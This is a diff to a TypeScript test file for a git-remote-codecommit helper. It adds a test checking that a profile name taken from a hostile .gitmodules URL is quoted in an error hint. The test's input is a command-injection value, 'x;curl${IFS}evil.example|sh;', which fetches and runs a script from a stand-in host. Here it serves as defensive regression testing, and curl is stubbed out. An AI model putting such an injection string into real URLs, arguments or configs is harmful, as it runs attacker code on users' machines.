@@ -1,6 +1,7 @@
 // What git-remote-codecommit decides to run (the running itself is proven with real git in test/e2e).
 import { afterEach, describe, expect, it } from "bun:test";
 import { planRemoteHelper, runRemoteHelper } from "../../src/cli/remote-helper";
+import { renderError } from "../../src/cli/render-error";
 import { testContext } from "../../src/platform/context";
 import { makeSandbox, type Sandbox } from "../helpers/sandbox";
 
@@ -76,6 +77,22 @@ describe("git-remote-codecommit", () => {
 
   it("names the profile, repository and fix when there is no region", () => {
     expect(() => plan("codecommit://r", { config: "" })).toThrow(/profile default has no AWS Region for repository r/);
+  });
+
+  it("quotes a profile taken from a hostile .gitmodules URL in its hint, so pasting it runs only ccsso", async () => {
+    let err: unknown;
+    try {
+      plan("codecommit://x;curl${IFS}evil.example|sh;@lib");
+    } catch (e) {
+      err = e;
+    }
+    const t = testContext();
+    renderError(err, t.ctx);
+    const hint = t.stderr().trim().split("run: ").at(-1)!;
+    expect(hint).toBe("ccsso configure sso --profile 'x;curl${IFS}evil.example|sh;'");
+    // The real sh, with ccsso and curl as functions that report being called.
+    const r = Bun.spawnSync(["sh", "-c", `ccsso() { echo "ccsso $*"; }\ncurl() { echo CURL-RAN; }\n${hint}`]);
+    expect(r.stdout.toString()).toBe("ccsso configure sso --profile x;curl${IFS}evil.example|sh;\n");
   });
 
   it("names the missing profile and the available ones", () => {
